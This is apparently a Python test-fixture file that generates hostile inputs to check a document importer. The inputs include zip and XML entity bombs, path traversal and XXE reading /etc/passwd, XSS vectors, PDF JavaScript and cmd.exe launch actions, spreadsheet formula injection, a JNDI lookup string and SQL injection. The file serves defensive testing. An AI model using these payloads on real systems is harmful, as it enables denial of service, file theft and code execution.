"""Files that try to break an import, made here: by name, as bytes."""

import codecs
import functools
import gzip
import io
import struct
import zipfile
import zlib
from collections.abc import Callable

from tests.documents.readers.office import NAMESPACE, office, packed, paragraph

Made = Callable[[], bytes]
_PAPER = "1. The Group met.\n\n2. The Group heard statements.\n"


def zipped(*entries: tuple[str, bytes], level: int = 9) -> bytes:
    written = io.BytesIO()
    with zipfile.ZipFile(written, "w", zipfile.ZIP_DEFLATED, compresslevel=level) as file:
        for name, data in entries:
            file.writestr(name, data)
    return written.getvalue()


def nested_zip(levels: int) -> bytes:
    data = bytes(1_000_000)
    for level in range(levels):
        data = zipped(*((f"{level}-{n}.zip", data) for n in range(4)))
    return data


def bomb(megabytes: int) -> bytes:
    return zipped(("word/document.xml", bytes(megabytes * 1024 * 1024)))


def lying_zip() -> bytes:
    """A part that says that it has 100 bytes and inflates to 64 MB."""
    whole = bytearray(bomb(64))
    size = struct.pack("<I", 64 * 1024 * 1024)
    while (at := whole.find(size)) >= 0:
        whole[at : at + 4] = struct.pack("<I", 100)
    return bytes(whole)


def overlapping_zip() -> bytes:
    """Many names for the same compressed bytes."""
    data = bytearray(zipped(("word/document.xml", b"<w>" + b" " * 1_000_000)))
    start = data.find(b"PK\x01\x02")
    end = data.find(b"PK\x05\x06")
    entry = bytes(data[start:end])
    count = 4_000
    tail = struct.pack(
        "<4sHHHHIIH", b"PK\x05\x06", 0, 0, count, count, len(entry) * count, start, 0
    )
    return bytes(data[:start]) + entry * count + tail


def crowded_zip(entries: int, *, twice: bool = False) -> bytes:
    """Many entries of nothing; `twice` gives their size in the ending for large archives only."""
    first = b"PK\x03\x04" + struct.pack("<HHHHHIIIHH", 20, 0, 0, 0, 0, 0, 0, 0, 1, 0) + b"a"
    entry = struct.pack("<HHHHHHIIIHHHHHII", 20, 20, *[0] * 7, 1, *[0] * 6)
    listed = (b"PK\x01\x02" + entry + b"a") * entries
    where = len(first) + len(listed)
    second = (
        b"PK\x06\x06"
        + struct.pack("<QHHIIQQQQ", 44, 45, 45, 0, 0, entries, entries, len(listed), len(first))
        + b"PK\x06\x07"
        + struct.pack("<IQI", 0, where, 1)
    )
    size = 0 if twice else len(listed)
    end = b"PK\x05\x06" + struct.pack("<HHHHIIH", 0, 0, 65535, 65535, size, len(first), 0)
    return first + listed + (second if twice else b"") + end


def entity_bomb(head: str, body: str) -> str:
    entities = '<!ENTITY a0 "ha">' + "".join(
        f'<!ENTITY a{n} "{f"&a{n - 1};" * 10}">' for n in range(1, 10)
    )
    return f"<?xml version='1.0'?><!DOCTYPE {head} [{entities}]>{body}"


def document_xml(body: str, head: str = "") -> bytes:
    return packed(
        {
            "word/document.xml": f'{head}<w:document xmlns:w="{NAMESPACE}"><w:body>{body}</w:body>'
            "</w:document>"
        }
    )


def pdf(content: bytes, *, page: str = "", catalog: str = "", more: str = "", pages: int = 1,
        box: str = "0 0 595 842", trailer: str = "") -> bytes:  # fmt: skip
    """A PDF of one page tree; its pages share one content stream."""
    kids = " ".join(f"{6 + n} 0 R" for n in range(pages))
    objects = [
        f"<</Type/Catalog/Pages 2 0 R{catalog}>>".encode(),
        f"<</Type/Pages/Count {pages}/Kids[{kids}]>>".encode(),
        b"<</Type/Font/Subtype/Type1/BaseFont/Helvetica>>",
        b"<</Length %d>>stream\n%s\nendstream" % (len(content), content),
        (more or "<<>>").encode(),
        *(
            f"<</Type/Page/Parent 2 0 R/MediaBox[{box}]/Contents 4 0 R"
            f"/Resources<</Font<</F 3 0 R>>>>{page}>>".encode()
            for _ in range(pages)
        ),
    ]
    data = b"%PDF-1.7\n"
    places = []
    for number, entry in enumerate(objects, 1):
        places.append(len(data))
        data += b"%d 0 obj %s endobj\n" % (number, entry)
    rows = "".join(f"{place:010} 00000 n \n" for place in places)
    table = f"xref\n0 {len(objects) + 1}\n0000000000 65535 f \n{rows}"
    end = (
        f"trailer<</Size {len(objects) + 1}/Root 1 0 R{trailer}>>\nstartxref\n{len(data)}\n%%EOF\n"
    )
    return data + table.encode() + end.encode()


_SHOWN = b"BT /F 11 Tf 70 700 Td (1. The Group met.) Tj ET\n"


def compressed_pdf(megabytes: int) -> bytes:
    stream = zlib.compress(_SHOWN + b" " * (megabytes * 1024 * 1024), 9)
    plain = pdf(b"@@", page="")
    return plain.replace(
        b"<</Length 2>>stream\n@@",
        b"<</Length %d/Filter/FlateDecode>>stream\n%s" % (len(stream), stream),
    )


LIGHT: dict[str, Made] = {
    # nothing, or no text
    "empty": lambda: b"",
    "blanks": lambda: b" \r\n\t\x0c" * 500,
    "wide blanks": lambda: "\u3000\u00a0\n".encode() * 50,
    "invisible signs": lambda: "\u200b\u200e\ufeff\u00ad\n".encode() * 50,
    "every byte": lambda: bytes(range(256)) * 40,
    "zero bytes": lambda: b"1. Te\x00xt\n" * 400,
    "only zeros": lambda: bytes(100_000),
    "terminal codes": lambda: b"\x1b[31m1. Text\x07\x08\n" * 100,
    "cut utf-8": lambda: "缔约国会议审议了本文件。".encode()[:-1],
    "cut utf-16": lambda: "The Group met.".encode("utf-16")[:-1],
    "cut surrogate": lambda: "1. 𠀀".encode("utf-16")[:-2],
    "lone surrogates": lambda: b"1. \xed\xa0\x80\xed\xb0\x80 text\n" * 30,
    "cut utf-32": lambda: "The Group met.".encode("utf-32")[:-2],
    "utf-32": lambda: _PAPER.encode("utf-32"),
    "utf-32 without mark": lambda: _PAPER.encode("utf-32-le"),
    "utf-7": lambda: "1. Genève, états parties".encode("utf-7"),
    "encoded twice": lambda: b"1. D\xc3\x83\xc2\xa9cid\xc3\x83\xc2\xa9.\n" * 9,
    "two marks": lambda: codecs.BOM_UTF8 * 3 + _PAPER.encode(),
    # other programs' files
    "program": lambda: b"\x7fELF\x02\x01\x01" + bytes(500),
    "picture": lambda: b"\x89PNG\r\n\x1a\n" + bytes(range(256)) * 9,
    "jpeg": lambda: b"\xff\xd8\xff\xe0\x00\x10JFIF" + bytes(range(256)) * 9,
    "gif": lambda: b"GIF89a" + bytes(range(256)) * 9,
    "tiff": lambda: b"II*\x00" + bytes(range(256)) * 9,
    "webp": lambda: b"RIFF\x00\x10\x00\x00WEBPVP8 " + bytes(range(256)) * 9,
    "old word": lambda: (
        b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1"
        + bytes(2_000)
        + "WordDocument".encode("utf-16-le")
        + bytes(99)
    ),
    "old excel": lambda: (
        b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1"
        + bytes(2_000)
        + "Workbook".encode("utf-16-le")
        + bytes(99)
    ),
    "protected word": lambda: (
        b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1"
        + bytes(2_000)
        + "EncryptedPackage".encode("utf-16-le")
        + bytes(99)
    ),
    "rtf": lambda: rb"{\rtf1\ansi{\fonttbl\f0 Times;}\f0 1. The Group met.\par}",
    "postscript": lambda: b"%!PS-Adobe-3.0\n/Times findfont 12 scalefont setfont (1. Text) show\n",
    "mail": lambda: (
        b"MIME-Version: 1.0\nContent-Type: multipart/related; boundary=X\n\n--X\n"
        b"Content-Type: text/html\n\n<p>1. T=\n\n--X--\n"
    ),
    "gzip": lambda: gzip.compress(_PAPER.encode() * 99),
    "cut gzip": lambda: gzip.compress(_PAPER.encode() * 99)[:-9],
    "bzip2": lambda: b"BZh91AY&SY" + bytes(range(256)) * 4,
    "xz": lambda: b"\xfd7zXZ\x00" + bytes(range(256)) * 4,
    "tar": lambda: b"paper.txt" + bytes(248) + b"ustar\x0000" + bytes(700) + _PAPER.encode(),
    "sqlite": lambda: b"SQLite format 3\x00" + bytes(2_000),
    # archives
    "no archive": lambda: b"PK\x03\x04" + bytes(range(256)) * 9,
    "empty archive": zipped,
    "archive of texts": lambda: zipped(("paper.txt", _PAPER.encode())),
    "spreadsheet": lambda: zipped(
        ("[Content_Types].xml", b"<Types/>"), ("xl/workbook.xml", b"<workbook/>")
    ),
    "open document": lambda: zipped(
        ("mimetype", b"application/vnd.oasis.opendocument.text"), ("content.xml", b"<office/>")
    ),
    "path in an archive": lambda: zipped(
        ("../../../etc/passwd", b"root"), ("/word/document.xml", b"<a/>")
    ),
    "cut archive": lambda: office(paragraph(_PAPER))[:-40],
    "archive of archives": functools.partial(nested_zip, 4),
    "many entries": lambda: zipped(*((f"{n}.xml", b"") for n in range(6_000)), level=0),
    "a crowd of entries": functools.partial(crowded_zip, 60_000),
    "a crowd that is told late": functools.partial(crowded_zip, 60_000, twice=True),
    "bomb": functools.partial(bomb, 100),
    "lying sizes": lying_zip,
    "overlapping entries": overlapping_zip,
    "word with an entity bomb": lambda: packed(
        {"word/document.xml": entity_bomb("w", "<w>&a9;</w>")}
    ),
    "word with an external entity": lambda: document_xml(
        paragraph("1. &x;").replace("&amp;", "&"),
        '<!DOCTYPE w [<!ENTITY x SYSTEM "file:///etc/passwd">]>',
    ),
    "word nested deeply": lambda: document_xml(
        "<w:sdt><w:sdtContent>" * 5_000 + "</w:sdtContent></w:sdt>" * 5_000
    ),
    "word without a body": lambda: packed(
        {"word/document.xml": f'<w:document xmlns:w="{NAMESPACE}"/>'}
    ),
    "word that is no xml": lambda: packed({"word/document.xml": "1. Text"}),
    "word with a style circle": lambda: office(
        paragraph("1. Text", '<w:pStyle w:val="A"/>'),
        styles='<w:style w:styleId="A"><w:name w:val="a"/><w:basedOn w:val="B"/></w:style>'
        '<w:style w:styleId="B"><w:name w:val="b"/><w:basedOn w:val="A"/></w:style>',
    ),
    # pages
    "page with scripts": lambda: (
        b"<html><head><script>alert(1)</script><style>p{}</style></head>"
        b'<body onload=alert(1)><p onclick="alert(2)">1. The Group met.'
        b"<script>alert(3)</script></p>"
        b"<iframe src=javascript:alert(4)></iframe><img src=x onerror=alert(5)>"
        b'<a href="javascript:alert(6)">link</a>'
        b"<svg onload=alert(7)><text>no</text></svg></body></html>"
    ),
    "page that reads files": lambda: (
        b'<?xml version="1.0"?><!DOCTYPE html [<!ENTITY x SYSTEM "file:///etc/passwd">]>'
        b'<html><body><p>1. Text &x;</p><object data="file:///etc/passwd"></object></body></html>'
    ),
    "page with an entity bomb": lambda: entity_bomb(
        "html", "<html><body><p>1. &a9;</p></body></html>"
    ).encode(),
    "page nested deeply": lambda: b"<html><body>" + b"<div>" * 20_000 + b"1. Text",
    "page of inline tags": lambda: b"<html><body><p>1. " + b"<b><i>" * 5_000 + b"Text",
    "page of tables in tables": lambda: b"<html><body>" + b"<table><tr><td>" * 500 + b"1. Text",
    "page of lists in lists": lambda: b"<html><body>" + b"<ol><li>x" * 200 + b"1. Text",
    "page of unclosed tags": lambda: b"<html><body>" + b"<p" * 50_000,
    "page of broken entities": lambda: b"<html><body><p>1. " + b"&#xFFFFFFFF;&#0;&nosuch;&" * 9_000,
    "page of comments": lambda: b"<html><body>" + b"<!--" * 50_000 + b"1. Text",
    "page of attributes": lambda: b"<html><body><p " + b"a=1 " * 50_000 + b">1. Text",
    "page with a wrong charset": (
        '<html><meta charset="utf-16"><body><p>1. Über.</p></body></html>'.encode
    ),
    "page with an odd charset": lambda: (
        b'<html><head><meta charset="hex_codec"></head><body><p>1. Text.</p></body></html>'
    ),
    "page without text": lambda: b"<html><body><img src=a.png></body></html>",
    # portable documents
    "locked pdf": lambda: pdf(
        _SHOWN,
        more=f"<</Filter/Standard/V 1/R 2/P -4/O({'o' * 32})/U({'u' * 32})>>",
        trailer="/Encrypt 5 0 R/ID[(a)(b)]",
    ),
    "cut pdf": lambda: pdf(_SHOWN)[:-60],
    "pdf without places": lambda: pdf(_SHOWN).replace(b"xref", b"xxxx"),
    "pdf with wrong places": lambda: pdf(_SHOWN).replace(b"00000 n", b"00000 f"),
    "pdf with script": lambda: pdf(
        _SHOWN,
        catalog="/OpenAction<</S/JavaScript/JS(app.alert\\(1\\);while\\(1\\);)>>/AA<</WC<</S/Launch/F(cmd.exe)>>>>",
    ),
    "pdf with a file inside": lambda: pdf(
        _SHOWN,
        catalog="/Names<</EmbeddedFiles<</Names[(x.exe)"
        "<</Type/Filespec/F(x.exe)/EF<</F 4 0 R>>>>]>>>>",
    ),
    "pdf with too many pages": lambda: pdf(_SHOWN, pages=2_000),
    "pdf that claims pages": lambda: pdf(_SHOWN).replace(b"/Count 1/", b"/Count 2147483647/"),
    "pdf with a page circle": lambda: pdf(_SHOWN).replace(b"/Kids[6 0 R]", b"/Kids[2 0 R]"),
    "pdf with a giant page": lambda: pdf(_SHOWN, box="0 0 1e30 1e30"),
    "pdf with no page size": lambda: pdf(_SHOWN, box="0 0 0 0"),
    "pdf that is no number": lambda: pdf(
        b"BT /F 1e38 Tf 1e38 -1e38 Td (1. Text) Tj 0 0 0 0 0 0 Tm (2. Text) Tj ET"
    ),
    "pdf of forms in forms": lambda: pdf(
        b"/X Do",
        page="/Y<<>>",
        more="<</Type/XObject/Subtype/Form/BBox[0 0 9 9]/Resources<</XObject<</X 5 0 R>>>>"
        "/Length 5>>stream\n"
        "/X Do\nendstream",
    ).replace(b"/Font<</F 3 0 R>>", b"/Font<</F 3 0 R>>/XObject<</X 5 0 R>>"),
    "pdf of deep arrays": lambda: pdf(_SHOWN, catalog="/A" + "[" * 20_000 + "]" * 20_000),
    "pdf of deep saves": lambda: pdf(b"q " * 100_000 + _SHOWN),
    "pdf with a picture": lambda: pdf(b"q 100 0 0 100 0 0 cm BI /W 1 /H 1 /BPC 8 /CS /G ID x EI Q"),
    "pdf of nothing": lambda: b"%PDF-1.7\n%%EOF",
    "pdf and page": lambda: b"<html><body><p>1. Text</p><!--" + pdf(_SHOWN) + b"--></body></html>",
    "pdf and archive": lambda: pdf(_SHOWN) + office(paragraph("1. Another text.")),
    "page and archive": lambda: (
        b"<html><body><p>1. Text</p></body></html>" + office(paragraph("1. Another text."))
    ),
    # texts
    "formulas": lambda: (
        b"=cmd|' /C calc'!A0\n\n1. @SUM(1+1)*cmd|' /C calc'!A0\n\n2. +1+1\n\n3. -2+3\n"
    ),
    "scripts as text": lambda: (
        b"1. <script>alert(1)</script> {{ 7*7 }} {% include %} ${jndi:ldap://x} '; "
        b"DROP TABLE x; --\n"
    ),
    "writing turned round": lambda: (
        "1. The file \u202etxt.exe\u202c is \u2066here\u2069.\n".encode() * 9
    ),
    "towers of marks": ("1. Z" + "\u0301\u0335" * 4_000 + " text.\n").encode,
    "signs outside the plane": lambda: "1. 😀𠀀𝔘\U0010ffff text\n".encode() * 99,
    "private and unassigned signs": lambda: "1. \ue000\uffff\ufffe\U000e0001 text\n".encode() * 99,
    "labels of many digits": lambda: b"".join(b"9" * 5_000 + b". Text.\n\n" for _ in range(20)),
    "number beyond counting": lambda: b"1" * 1_000_000 + b". Text\n",
    "roman numbers": lambda: b"".join(
        b"m" * 500 + b"cdxliv. Text.\n\n(" + b"i" * 900 + b") text;\n\n" for _ in range(50)
    ),
    "han numbers": ("一" * 20_000 + "、概论\n（" + "百" * 9_000 + "）文\n").encode,
    "arabic digits": ("٩" * 20_000 + ". نص\n").encode,
    "line ends of all kinds": lambda: b"1. Text\r\r\n\n\r\x0b\x0c\x85\n" * 2_000,
    "only labels": lambda: b"".join(f"{n}.\n".encode() for n in range(1, 3_000)),
    "only one letter": lambda: b"x",
    "only a label": lambda: b"1.",
    "symbol of many slashes": lambda: b"A/" * 50_000,
    "addresses of pages": lambda: b"1. http://x/" + b"a/" * 50_000,
    "dates without end": lambda: b"1-2-3-4 January " * 9_000,
}
